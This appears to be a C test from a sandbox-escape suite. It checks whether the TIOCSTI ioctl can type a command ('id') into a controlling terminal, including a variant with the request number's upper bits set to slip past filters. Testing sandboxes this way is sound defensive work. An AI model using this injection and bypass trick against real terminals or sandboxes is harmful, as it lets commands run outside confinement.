/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Extra attack: type into a terminal. TIOCSTI pushes bytes into a
 * terminal's input as if typed; run from a sandbox that shares its
 * invoker's terminal, they are read by the invoker's shell once the
 * sandbox is gone, and run as commands outside it. This attempt needs no
 * real terminal: it opens a pseudo-terminal, makes it the controlling
 * terminal of a new session (as the invoker's is), pushes "id\n" with
 * TIOCSTI, and reads the master side: the line arriving there is what a
 * shell would have run. The request number also goes with its upper 32
 * bits set, which the kernel ignores.
 */
#include <poll.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/wait.h>

#include "esc.h"

static int push(int tty, unsigned long req, const char *s)
{
	for (; *s; s++)
		if (ioctl(tty, req, s) < 0)
			return -errno;
	return 0;
}

int main(int argc, char **argv)
{
	unsigned long reqs[] = { TIOCSTI, (1UL << 32) | TIOCSTI };
	int master, status, err[2] = { 0, 0 }, pipefd[2];
	struct esc e;
	char buf[64];
	ssize_t n;
	pid_t pid;

	esc_init(&e, argc, argv);
	master = posix_openpt(O_RDWR | O_NOCTTY);
	if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0)
		esc_exit(&e, ESC_UNSUPPORTED, "no pseudo-terminal: %s",
			 esc_errname(errno));
	if (pipe(pipefd) < 0)
		esc_exit(&e, ESC_SETUP, "pipe: %s", esc_errname(errno));
	pid = fork();
	if (pid == 0) {
		int tty;

		setsid();
		tty = open(ptsname(master), O_RDWR); /* controlling now */
		if (tty < 0)
			_exit(2);
		for (int i = 0; i < 2; i++)
			err[i] = push(tty, reqs[i], "id\n");
		(void)!write(pipefd[1], err, sizeof(err));
		_exit(0);
	}
	close(pipefd[1]);
	if (pid < 0 || waitpid(pid, &status, 0) < 0 || !WIFEXITED(status) ||
	    WEXITSTATUS(status) != 0 ||
	    read(pipefd[0], err, sizeof(err)) != sizeof(err))
		esc_exit(&e, ESC_SETUP, "the session on the terminal failed");
	if (err[0] == -EIO && err[1] == -EIO)
		esc_exit(&e, ESC_UNSUPPORTED,
			 "TIOCSTI: EIO (turned off: "
			 "dev.tty.legacy_tiocsti=0, and no CAP_SYS_ADMIN)");
	/*
	 * The line discipline hands typed bytes on from a work queue: under
	 * load they reach the master a while after the ioctl returned. Wait
	 * for them (up to 3 s) where the pushes succeeded.
	 */
	fcntl(master, F_SETFL, O_NONBLOCK);
	buf[0] = '\0';
	for (size_t got = 0, tries = 0; tries < 30 && !strstr(buf, "id");
	     tries++) {
		struct pollfd p = { .fd = master, .events = POLLIN };

		if ((err[0] && err[1]) || poll(&p, 1, 100) < 0)
			break;
		n = read(master, buf + got, sizeof(buf) - 1 - got);
		if (n > 0)
			got += (size_t)n;
		buf[got] = '\0';
		if (got == sizeof(buf) - 1)
			break;
	}
	if (strstr(buf, "id"))
		esc_exit(&e, ESC_ESCAPED,
			 "TIOCSTI typed \"id\" into the "
			 "terminal (%s / %s)",
			 err[0] ? esc_errname(-err[0]) : "OK",
			 err[1] ? esc_errname(-err[1]) : "OK");
	esc_exit(&e, ESC_BLOCKED, "TIOCSTI: %s, with the upper bits set: %s",
		 err[0] ? esc_errname(-err[0]) : "OK, nothing arrived",
		 err[1] ? esc_errname(-err[1]) : "OK, nothing arrived");
}
